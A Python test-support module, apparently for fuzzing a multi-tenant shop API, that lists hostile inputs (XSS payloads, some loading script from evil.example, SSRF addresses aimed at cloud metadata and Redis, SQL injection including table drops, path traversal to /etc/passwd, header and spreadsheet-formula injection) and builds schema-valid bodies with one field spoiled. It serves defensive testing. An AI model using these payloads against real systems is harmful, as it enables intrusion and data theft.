"""What attackers send: texts, wrong types, bodies, addresses; and bodies made from a schema, one field spoiled."""

import copy
from collections.abc import Iterator
from typing import Any

PWNED = "__pwned"  # set on window by whatever runs
EVALUATED = "270481"  # what a template engine makes of the sum below
_RUN = f"window.{PWNED}=1"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src=//evil.example/x.js>{_RUN}</sCrIpT>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}//",
    f'"><img src=x onerror="{_RUN}">',
    f"'><svg/onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<iframe srcdoc='<script>parent.{PWNED}=1</script>'></iframe>",
    f"<details open ontoggle={_RUN}>x",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<form action=//evil.example><button formaction=javascript:{_RUN}>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    f"<div hx-get=//evil.example hx-trigger=load hx-on:load={_RUN}>x</div>",
    f'" hx-get="//evil.example" hx-trigger="load" hx-vals="js:{{x:{_RUN}}}',
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    "<div hx-boost=true hx-target=body hx-swap=outerHTML><a href=//evil.example>x</a></div>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"--></script><script>{_RUN}</script>",
    f"<!--<img src=--><img src=x onerror={_RUN}//>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cimg src=x onerror={_RUN}\\x3e",
    f"＜script＞{_RUN}＜/script＞",
    f"<a href='jav&#x09;ascript:{_RUN}'>x</a>",
    f"[x](javascript:{_RUN})",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<xmp><img title='</xmp><img src=x onerror={_RUN}>'>",
    "{{521*519+82}}",
    "{% debug %}{% load static %}",
    "${521*519+82}#{521*519+82}<%=521*519+82%>",
    "{{request.user.password}}",
)
ADDRESSES = (
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"java\tscript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "file:///etc/passwd",
    "//evil.example/",
    "http://127.0.0.1:22/",
    "http://127.1/",
    "http://2130706433/",
    "http://0x7f000001/",
    "http://0177.0.0.1/",
    "http://[::1]/",
    "http://[::ffff:169.254.169.254]/",
    "http://169.254.169.254/latest/meta-data/",
    "https://100.100.100.200/",
    "https://192.0.0.192/",
    "http://[fec0::1]/",
    "http://[64:ff9b::7f00:1]/",
    "http://user@evil.example:80@127.0.0.1/",
    "http://127.0.0.1#@shop.example/",
    "http://localhost./",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "http://shop.example\\@127.0.0.1/",
    "http://ⓛocalhost/",
    "http://:0/",
    "http://",
)
SQL = (
    "' or '1'='1",
    "'; drop table tenants_tenant; --",
    '"; select 1; --',
    "1) or (1=1",
    "' union select null,null--",
    "1; select set_config('app.tenant', '1', false)",
    "select enter_tenant(1)",
    "'||pg_sleep(1)||'",
    "\\'; select 1 --",
    "$$; select 1; $$",
    "%' or title like '%",
    "%s%s%(x)s",
    "/* */ -- #",
    "Robert'); update tenants_user set email=''; --",
    "null",
    "E'\\x00'",
    "'::int",
    "1e1000::numeric",
    "{1,2,3}",
    '{"a":',
    "row(1,2)",
    "current_user",
)
PATHS = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "C:\\boot.ini",
    "file\x00.png",
    ".",
    "..",
    "/",
    "~root",
    "con",
    "a/b/c",
    "a;b",
    "a?b#c",
    "%00",
    "%",
)
LINES = (
    "a\r\nSet-Cookie: session=evil",
    "a\nBcc: evil@evil.example",
    "a\r\n\r\n<html>",
    "%0d%0aLocation:%20//evil.example",
    'a\n{"level": "info", "event": "forged"}',
    "a\x1b[31mred\x1b[0m",
    "a\u2028b\u2029c",
    "a\x85b",
    "a\x0bb\x0cc",
    "\r",
)
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "＝1+1",
    '=HYPERLINK("//evil.example")',
)
UNICODE = (
    "\u202egnp.exe",
    "\u2066a\u2069",
    "a\u200bb",
    "\ufeffa",
    "e\u0301",
    "\u00e9",
    "１２",
    "Ⅷ",
    "ﬁ",
    "\U000e0041",
    "\u0430dmin",
    "ı",
    "İ",
    "ß" * 40,
    "👩‍👩‍👧" * 20,
    "a" + "\u0300" * 500,
    "\uffff",
    "\ufdfd",
    "؜",
    "\u00ad",
)
LENGTHS = ("", " ", "a" * 65, "a" * 1001, "a" * 100_000, "<" * 10_000, "&amp;" * 5_000, "é" * 1_000_000)
TEXTS = (*MARKUP, *ADDRESSES, *SQL, *PATHS, *LINES, *FORMULAS, *UNICODE, *LENGTHS, "a\x00b", "\x00")


def _nested(levels: int) -> Any:
    value: Any = "x"
    for number in range(levels):
        value = [value] if number % 2 else {"a": value}
    return value


VALUES: tuple[Any, ...] = (
    None,
    True,
    False,
    0,
    -1,
    1,
    2**31,
    2**53 + 1,
    2**63,
    2**64,
    -(2**63) - 1,
    10**30,
    -0.0,
    0.1,
    1e308,
    5e-324,
    [],
    {},
    [[]],
    [None],
    [{}],
    {"a": {}},
    {"id": None},
    [1, "a", None],
    {"$ne": 1},
    {"__proto__": {"x": 1}},
    [True] * 2_000,
    {str(n): n for n in range(200)},
    _nested(20),
    _nested(30),
    "1e400",
    "NaN",
    "Infinity",
    "-Infinity",
    "0x10",
    "1_000",
    "１２",
    "١٢",
    "12,90",
    "9999-12-31T23:59:59-23:59",
    "0000-01-01T00:00:00Z",
    "2025-02-30T00:00:00Z",
    "2025-06-01T12:00:00",
    "2025-W01-1",
    "10000-01-01T00:00:00Z",
    "00000000-0000-0000-0000-00000000000g",
    "EURO",
    "eu",
)
BODIES = (
    b"",
    b"null",
    b"[]",
    b"{}",
    b"true",
    b"1",
    b'"a"',
    b"[null]",
    b"[[]]",
    b"{",
    b"[",
    b"\xff\xfe{}",
    b"\xef\xbb\xbf{}",
    b"[" * 100_000,
    b'{"a":' * 1_100 + b"1" + b"}" * 1_100,
    b"[" * 33 + b"]" * 33,
    b'{"id": "a", "id": "b"}',
    b'{"id": NaN}',
    b'{"id": Infinity}',
    b'{"id": 1e999}',
    b'{"id": ' + b"9" * 5_000 + b"}",
    b'{"id": "\\u0000"}',
    b'{"id": "\\ud800"}',
    b'{"id": "\xed\xa0\x80"}',
    b'{"id": "\xff"}',
    b"\x00",
    b'{"products": null}',
    b'{"events": {"a": 1}}',
    b'{"orders": "x"}',
    b"\x1f\x8b\x08\x00",
    b"<?xml version='1.0'?><a/>",
    b"a=1&b=2",
    b'{"tenant_id": 1, "id": "x", "tenant": 2, "pk": 3}',
    b'{"id": "a"} {"id": "b"}',
    b'{"id": "a",}',
    b"{'id': 'a'}",
)


def good(schema: dict[str, Any], part: dict[str, Any], *, name: str = "", which: int = 0) -> Any:
    """A value that the schema takes; of alternatives the one numbered `which`, where there are so many."""
    if "$ref" in part:
        return good(schema, schema["components"]["schemas"][part["$ref"].rsplit("/", 1)[1]], name=name, which=which)
    for together in ("oneOf", "anyOf", "allOf"):
        if together in part:
            return good(schema, part[together][min(which, len(part[together]) - 1)], name=name, which=which)
    if "enum" in part:
        return part["enum"][0]
    if "example" in part:
        return part["example"]
    kind = part.get("type", "string")
    kind = next((one for one in kind if one != "null"), "string") if isinstance(kind, list) else kind
    if kind == "object" or "properties" in part:
        return {key: good(schema, one, name=key, which=which) for key, one in part.get("properties", {}).items()}
    if kind == "array":
        return [good(schema, part.get("items", {}), name=name, which=which)]
    return _scalar(kind, part, name)


def _scalar(kind: str, part: dict[str, Any], name: str) -> Any:
    if kind == "integer":
        return part.get("minimum", 1)
    if kind == "number":
        return 1.5
    if kind == "boolean":
        return True
    formats = {
        "date-time": "2025-06-01T12:30:00Z",
        "uuid": "7b1e0f5e-0d5e-4c6c-9d5a-2f7f0f6f0a11",
        "decimal": "12.90",
        "uri": "https://shop.example/a",
        "date": "2025-06-01",
        "email": "a@shop.example",
    }
    found = formats.get(part.get("format", ""))
    named = {"currency": "EUR", "type": "view", "url": "https://shop.example/a", "image_url": "https://shop.example/b"}
    return found or named.get(name, "h1")


def fields(body: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The path of every value in a body, also of those inside lists and objects."""
    if path:
        yield path
    inside = body.items() if isinstance(body, dict) else enumerate(body) if isinstance(body, list) else ()
    for key, value in inside:
        yield from fields(value, (*path, key))


def spoiled(body: Any, path: tuple[Any, ...], value: Any) -> Any:
    """A copy of the body with this value at this place."""
    changed = copy.deepcopy(body)
    place = changed
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = value
    return changed
